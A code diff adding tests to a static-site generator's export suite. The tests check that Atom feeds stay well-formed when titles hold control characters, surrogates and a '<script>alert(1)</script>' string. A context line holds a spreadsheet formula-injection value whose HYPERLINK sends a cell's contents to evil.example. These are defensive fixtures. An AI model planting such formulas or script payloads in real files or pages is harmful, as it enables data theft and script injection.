@@ -4,16 +4,23 @@ commands and the job summary hold contributors' text, so each is written safely 
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import shutil
+import xml.etree.ElementTree as ET
 from pathlib import Path
 
+import feedparser
 import pytest
 
+from generator.catalog import Catalog
 from generator.config import SiteConfig, load_config
+from generator.content import load_catalog
+from generator.export import write_exports
 from generator.export_csv import safe_cell, to_csv
 from generator.export_models import CaseRecord
+from generator.feeds import atom_feed, xml_text
 from schemas.models import Source
 from tests.conftest import FIXTURES, ROOT, run_opit
 
@@ -115,3 +122,75 @@ def test_opit_export_quotes_every_formula_cell_of_every_csv_and_the_json_keeps_i
     record = next(r for r in as_json["items"] if r["id"] == "formula-case")
     assert record["title"] == '=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
     assert record["keywords"] == ["+1 keyword", "harmless"]
+
+
+# ---------------------------------------------------------------------------------------------
+# 2. Atom feeds are well-formed XML whatever the strings hold.
+# ---------------------------------------------------------------------------------------------
+
+C1 = "".join(map(chr, range(0x7F, 0xA0)))
+HOSTILE_TEXT = {
+    "nul": ("a\x00b", "ab"),
+    "soh": ("a\x01b", "ab"),
+    "vertical tab": ("a\x0bb", "ab"),
+    "escape": ("a\x1b[31mb", "a[31mb"),
+    "c1 controls (legal but read as Windows-1252)": (f"a{C1}b", "ab"),
+    "noncharacters": ("a\ufffe\uffffb", "ab"),
+    "lone surrogate": ("a\ud800b\udfffc", "abc"),
+    "cdata end": ("a]]>b", "a]]>b"),
+    "script": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+    "ampersand": ("Fish & chips &amp; &#0; &bogus;", "Fish & chips &amp; &#0; &bogus;"),
+}
+
+
+def test_xml_text_removes_exactly_the_characters_xml_1_0_forbids_or_discourages() -> None:
+    allowed = "\t\n\r x~\xa0\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
+    forbidden = "".join(map(chr, [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + C1 + (
+        "\ud800\udbff\udc00\udfff\ufffe\uffff")
+    assert xml_text(allowed + forbidden + allowed) == allowed + allowed
+
+
+def hostile_catalog(title: str, summary: str | None = None) -> Catalog:
+    """The minimal fixture with every entry's title and summary replaced (not validated)."""
+    loaded = load_catalog(MINIMAL)
+    update = {"title": f"T {title}", "summary": f"S {title if summary is None else summary}"}
+    entries = {key: dataclasses.replace(entry, data=entry.data.model_copy(update=update))
+               for key, entry in loaded.entries.items()}
+    return dataclasses.replace(loaded, entries=entries)
+
+
+def parse_feed(data: bytes) -> tuple[list[str], list[str]]:
+    """Titles and summaries of a feed's entries, as xml.etree and as feedparser read them."""
+    root = ET.fromstring(data)
+    titles = [e.findtext(f"{ATOM}title") or "" for e in root.iter(f"{ATOM}entry")]
+    summaries = [e.findtext(f"{ATOM}summary") or "" for e in root.iter(f"{ATOM}entry")]
+    parsed = feedparser.parse(data)
+    assert not parsed.bozo, parsed.get("bozo_exception")
+    assert [e.title for e in parsed.entries] == titles
+    assert [e.summary for e in parsed.entries] == summaries
+    return titles, summaries
+
+
+@pytest.mark.parametrize("name", HOSTILE_TEXT)
+def test_a_feed_is_well_formed_whatever_its_titles_and_summaries_hold(
+        name: str, config: SiteConfig) -> None:
+    text, kept = HOSTILE_TEXT[name]
+    titles, summaries = parse_feed(atom_feed(hostile_catalog(text), config))
+    assert titles and set(titles) == {f"T {kept}"}
+    assert set(summaries) == {f"S {kept}"}
+
+
+def test_every_feed_the_export_writes_parses_with_hostile_titles_and_summaries(
+        config: SiteConfig, tmp_path: Path) -> None:
+    # The export's own records refuse lone surrogates, and HTML in a summary.
+    title = [k for k in HOSTILE_TEXT if k != "lone surrogate"]
+    summary = [k for k in title if k != "script"]
+    catalog = hostile_catalog("".join(HOSTILE_TEXT[k][0] for k in title),
+                              "".join(HOSTILE_TEXT[k][0] for k in summary))
+    written = write_exports(catalog, config, tmp_path)
+    feeds = [p for p in written if p.name == "feed.xml"]
+    assert len(feeds) == 4
+    for path in feeds:
+        titles, summaries = parse_feed(path.read_bytes())
+        assert titles and set(titles) == {"T " + "".join(HOSTILE_TEXT[k][1] for k in title)}
+        assert set(summaries) == {"S " + "".join(HOSTILE_TEXT[k][1] for k in summary)}
